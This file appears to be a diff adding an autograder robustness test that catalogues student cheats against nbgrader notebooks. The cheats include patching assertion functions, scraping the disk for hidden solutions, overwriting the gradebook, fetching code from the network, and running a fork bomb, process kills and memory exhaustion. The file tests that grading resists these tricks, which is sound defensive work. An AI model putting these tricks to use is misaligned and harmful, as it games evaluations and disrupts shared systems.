@@ -1,0 +1,179 @@
+"""Tricks a student might try to score without right answers. None may gain a point.
+
+Each cheat is added to a submission whose answers are wrong (the first mutant
+of every exercise); the grade must not exceed that of the same wrong answers
+without the trick. Code cheats are appended to every answer cell, so they run
+after the student's definitions and before every test; notebook cheats
+change the notebook's structure instead.
+"""
+import copy
+from dataclasses import dataclass
+from typing import Callable
+
+from nbgrader import utils as nbutils
+
+
+@dataclass(frozen=True)
+class Cheat:
+    name: str
+    code: str = ""                    # appended to every answer cell
+    transform: Callable = None        # or a change to the whole notebook
+
+    def apply(self, nb):
+        nb = copy.deepcopy(nb)
+        if self.transform is not None:
+            return self.transform(nb)
+        for cell in nb.cells:
+            if nbutils.is_solution(cell):
+                cell.source = cell.source + "\n\n" + self.code
+        return nb
+
+
+def _drop_test_cells(nb):
+    nb.cells = [c for c in nb.cells if not nbutils.is_grade(c)]
+    return nb
+
+
+def _empty_test_cells(nb):
+    for cell in nb.cells:
+        if nbutils.is_grade(cell):
+            cell.source = "pass"
+    return nb
+
+
+def _ungrade_test_cells(nb):
+    """Mark test cells as ordinary, unlocked cells worth a lot, and empty them."""
+    for cell in nb.cells:
+        if nbutils.is_grade(cell):
+            cell.metadata.nbgrader.update(grade=False, locked=False, points=100)
+            cell.source = "print('all tests passed')"
+    return nb
+
+
+CODE_CHEATS = [
+    Cheat("patch numpy and the checks", '''
+import numpy as _np, numpy.testing as _npt, dlscratch.checks as _checks
+_np.allclose = lambda *a, **k: True
+_np.isclose = lambda a, b, *r, **k: _np.ones(_np.broadcast(_np.asarray(a), _np.asarray(b)).shape, bool)
+_np.array_equal = lambda *a, **k: True
+_npt.assert_allclose = lambda *a, **k: None
+_npt.assert_array_almost_equal = lambda *a, **k: None
+_checks.check_close = lambda *a, **k: None
+_checks.check_true = lambda *a, **k: None
+check_close = check_true = lambda *a, **k: None
+'''),
+    Cheat("patch math and builtins", '''
+import math as _math, builtins as _builtins
+_math.isclose = lambda *a, **k: True
+_builtins.abs = lambda x: 0.0
+_builtins.all = lambda x: True
+_builtins.AssertionError = type("AssertionError", (Exception,), {})
+'''),
+    Cheat("import the reference package", '''
+try:
+    import importlib as _il
+    for _name in ("derivatives", "chain_rule", "tensors", "linear_regression", "neural_network",
+                  "building_blocks", "training", "convolution", "fastconv"):
+        try:
+            _ref = _il.import_module("autograder.reference." + _name)
+            globals().update({k: v for k, v in vars(_ref).items() if callable(v) and not k.startswith("_")})
+        except ImportError as _error:
+            print("cheat: no", _name, _error)
+except Exception as _error:
+    print("cheat failed:", _error)
+'''),
+    Cheat("patch the reference package in sys.modules", '''
+import sys as _sys, types as _types
+for _name in ("autograder", "autograder.reference", "autograder.judge", "dlscratch.checks"):
+    _fake = _types.ModuleType(_name)
+    _fake.__getattr__ = lambda attr: (lambda *a, **k: None)
+    _sys.modules[_name] = _fake
+'''),
+    Cheat("read solutions and hidden tests from disk", '''
+import os as _os, json as _json
+_found = []
+for _root in ("/", "/work", "/home", "/root", "/tmp", _os.path.expanduser("~"), "..", "../.."):
+    try:
+        for _dirpath, _dirs, _files in _os.walk(_root):
+            _found += [_os.path.join(_dirpath, f) for f in _files if f.endswith((".ipynb", ".py"))
+                       and ("solution" in _dirpath or "reference" in _dirpath or "autograder" in _dirpath)]
+            if len(_found) > 50:
+                break
+    except Exception:
+        pass
+for _path in _found:
+    try:
+        _text = open(_path).read()
+        if _path.endswith(".ipynb"):
+            _text = "\\n".join("".join(c["source"]) for c in _json.loads(_text)["cells"] if c["cell_type"] == "code"
+                              and "BEGIN SOLUTION" in "".join(c["source"]))
+        exec(_text.replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""), globals())
+    except Exception:
+        pass
+'''),
+    Cheat("replace the grader's probe", '''
+import builtins as _builtins
+class _FakeProbe:
+    def serve(self, request):
+        return '{"ok": true}'
+_builtins.__grader_probe__ = _FakeProbe()
+'''),
+    Cheat("write to the gradebook and the grading folders", '''
+import os as _os, glob as _glob
+for _pattern in ("/**/gradebook.db", "../../**/gradebook.db", "/tmp/**/*.db"):
+    try:
+        for _path in _glob.glob(_pattern, recursive=True):
+            with open(_path, "wb") as _f:
+                _f.write(b"0")
+    except Exception as _error:
+        print("cheat:", _error)
+'''),
+    Cheat("reach the network", '''
+try:
+    import urllib.request as _url
+    _url.urlopen("http://example.com/answers.py", timeout=3).read()
+except Exception as _error:
+    print("cheat:", _error)
+'''),
+    Cheat("fork bomb", '''
+import os as _os
+try:
+    for _ in range(1000):
+        if _os.fork() == 0:
+            while True:
+                pass
+except Exception as _error:
+    print("cheat:", _error)
+'''),
+    Cheat("kill the kernel", '''
+import os as _os
+_os._exit(0)
+'''),
+    Cheat("kill other processes", '''
+import os as _os, signal as _signal
+for _pid in (-1, _os.getppid(), 1):
+    try:
+        _os.kill(_pid, _signal.SIGKILL)
+    except Exception as _error:
+        print("cheat:", _error)
+'''),
+    Cheat("loop forever, deaf to interrupts", '''
+import signal as _signal
+_signal.signal(_signal.SIGINT, _signal.SIG_IGN)
+while True:
+    pass
+'''),
+    Cheat("allocate memory without bound", '''
+_hoard = []
+while True:
+    _hoard.append(bytearray(50 * 2**20))
+'''),
+]
+
+NOTEBOOK_CHEATS = [
+    Cheat("delete the test cells", transform=_drop_test_cells),
+    Cheat("empty the test cells", transform=_empty_test_cells),
+    Cheat("turn test cells into ordinary cells", transform=_ungrade_test_cells),
+]
+
+ALL = CODE_CHEATS + NOTEBOOK_CHEATS
